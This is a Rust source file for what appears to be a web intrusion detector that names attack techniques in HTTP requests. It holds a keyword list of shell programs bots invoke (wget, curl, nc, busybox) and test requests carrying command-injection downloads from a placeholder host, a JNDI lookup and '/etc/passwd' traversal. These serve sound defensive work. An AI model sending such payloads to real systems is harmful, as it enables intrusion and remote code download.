//! Requests that only an attack makes: shell characters in parameters, paths that climb, known tricks.
//!
//! Key function: [`suspect`]; a row for each technique in [`TECHNIQUES`].
use super::decode::{Plus, percent};
use super::request::Head;

/// Bytes of a body that are looked at.
const BODY_MAX: usize = 16 << 10;

struct Technique {
    name: &'static str,
    is_seen: fn(&str) -> bool,
}

static TECHNIQUES: &[Technique] = &[
    Technique { name: "http-command-injection", is_seen: has_injected_command },
    Technique {
        name: "http-path-traversal",
        is_seen: |text| text.contains("../..") || text.contains("..\\.."),
    },
    Technique { name: "http-shellshock", is_seen: |text| text.contains("() {") },
    Technique { name: "http-jndi-lookup", is_seen: |text| text.contains("${jndi:") },
    Technique {
        name: "http-php-injection",
        is_seen: |text| text.contains("<?php") || text.contains("auto_prepend_file"),
    },
];

/// Programs that bots call through a web page.
static PROGRAMS: &[&str] = &[
    "wget", "curl", "tftp", "ftpget", "busybox", "chmod", "/bin/sh", "/tmp", "nc ", "id", "cat ", "uname",
    "ping ", "echo ",
];

/// A separator of the shell's with a program right behind it.
fn has_injected_command(text: &str) -> bool {
    let separators = |c: char| matches!(c, ';' | '|' | '`' | '\n' | '(' | '&');
    let starts = |rest: &str| {
        let rest = rest.trim_start_matches(|c: char| c.is_whitespace() || separators(c));
        let rest = rest.strip_prefix("cd ").unwrap_or(rest);
        PROGRAMS.iter().any(|program| {
            rest.strip_prefix(program).is_some_and(|tail| {
                !tail.starts_with(|c: char| c.is_ascii_alphanumeric())
                    || program.starts_with('/')
                    || program.ends_with(' ')
            })
        })
    };
    text.match_indices(separators).any(|(at, found)| match found {
        // `&` and `(` alone are common in harmless requests.
        "&" => text[at..].starts_with("&&") && starts(&text[at..]),
        "(" => text[..at].ends_with('$') && starts(&text[at..]),
        _ => starts(&text[at..]),
    })
}

/// Shell characters in a value that a command line takes.
pub fn has_shell_characters(value: &[u8]) -> bool {
    let plain = |b: &u8| !matches!(b, b';' | b'|' | b'`' | b'\n' | b'&' | b'$' | b'>' | b'<');
    !value.iter().all(plain)
}

/// The technique that a request shows, and the text that shows it.
pub fn suspect(head: &Head, body: &[u8]) -> Option<(&'static str, String)> {
    let fields = head.fields.iter().map(|(_, value)| value.as_slice());
    let body = &body[..body.len().min(BODY_MAX)];
    for part in std::iter::once(head.target.as_slice()).chain(fields).chain([body]) {
        let decoded = percent(part, Plus::Blank);
        // Twice: `%253B` gets past one decoder.
        let text = String::from_utf8_lossy(&percent(&decoded, Plus::Blank)).into_owned();
        if let Some(technique) = TECHNIQUES.iter().find(|t| (t.is_seen)(&text)) {
            return Some((technique.name, text));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::front::http::request::parse_head;

    fn check(target: &str, body: &str, expect: Option<&str>) {
        let text = format!("GET {target} HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n");
        let head = parse_head(text.as_bytes(), 65536).unwrap().unwrap().0;
        assert_eq!(suspect(&head, body.as_bytes()).map(|s| s.0), expect, "{target} {body}");
    }

    #[test]
    fn attacks_are_named() {
        let injection = Some("http-command-injection");
        check("/shell?x;cd+/tmp;wget+http://192.0.2.1/m", "", injection);
        check("/setup.cgi?cmd=1%3Bwget%20http://192.0.2.1/", "", injection);
        check("/ping?ip=1.1.1.1%26%26curl%20x", "", injection);
        check("/ping?ip=%60id%60", "", injection);
        check("/ping?ip=$(busybox)", "", injection);
        check("/x", "host=1%0Awget x", injection);
        check("/../../etc/passwd", "", Some("http-path-traversal"));
        check("/%252e%252e/%252e%252e/", "", Some("http-path-traversal"));
        check("/${jndi:ldap://192.0.2.1}", "", Some("http-jndi-lookup"));
    }

    #[test]
    fn ordinary_requests_are_not() {
        check("/index.html?a=1&b=2&id=3", "user=admin&password=admin", None);
        check("/a;jsessionid=1", "", None);
        check("/doc/(draft)", "", None);
        check("/search?q=wget", "", None);
    }
}
